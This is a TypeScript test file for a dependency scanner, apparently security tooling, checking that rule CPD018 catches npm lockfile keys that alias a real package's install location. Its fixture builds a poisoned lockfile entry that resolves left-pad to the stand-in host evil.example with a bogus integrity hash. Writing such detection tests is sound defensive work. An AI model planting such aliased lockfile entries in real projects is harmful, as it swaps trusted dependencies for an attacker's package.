import { describe, expect, it } from 'vitest';
import { repoWith, scanDeps } from './helpers.js';

/**
 * arborist's loadVirtual builds a node per `packages` key at `path.resolve(root, key)` (`#loadNode`), and the
 * inventory holds one node per resolved location: of two keys that resolve alike, the later entry is installed.
 */
const SHA512 = 'sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQHHlX5mJ5/bY6VVcZ1D3T0SXdC4cNuDgp5RX8RsfFuv3XrQ==';

function lockfile(second: string): string {
  const packages = {
    '': { name: 'app', version: '1.0.0', dependencies: { 'left-pad': '^1.3.0' } },
    'node_modules/left-pad': {
      version: '1.3.0',
      resolved: 'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz',
      integrity: SHA512,
    },
    [second]: { version: '1.3.0', resolved: 'https://evil.example/left-pad-1.3.0.tgz', integrity: 'sha512-AAAA' },
  };
  return JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2);
}

async function locations(second: string): Promise<string[]> {
  const root = await repoWith({
    'package.json': '{"name":"app","version":"1.0.0","dependencies":{"left-pad":"^1.3.0"}}',
    'package-lock.json': lockfile(second),
  });
  const r = await scanDeps(root);
  return r.findings
    .filter((f) => f.ruleId === 'CPD018')
    .map((f) => `${String(f.evidence?.location)}@${f.location.line}`);
}

describe('npm: a key that resolves onto another install location', () => {
  it('with a trailing slash replaces the genuine entry (CPD018)', async () => {
    expect(await locations('node_modules/left-pad/')).toEqual(['node_modules/left-pad@19']);
  });

  it('with a `.` segment is CPD018 as before (guard)', async () => {
    expect(await locations('node_modules/./left-pad')).toEqual(['node_modules/left-pad@19']);
  });

  it('a plain nested location is none (guard)', async () => {
    expect(await locations('node_modules/a/node_modules/left-pad')).toEqual([]);
  });
});
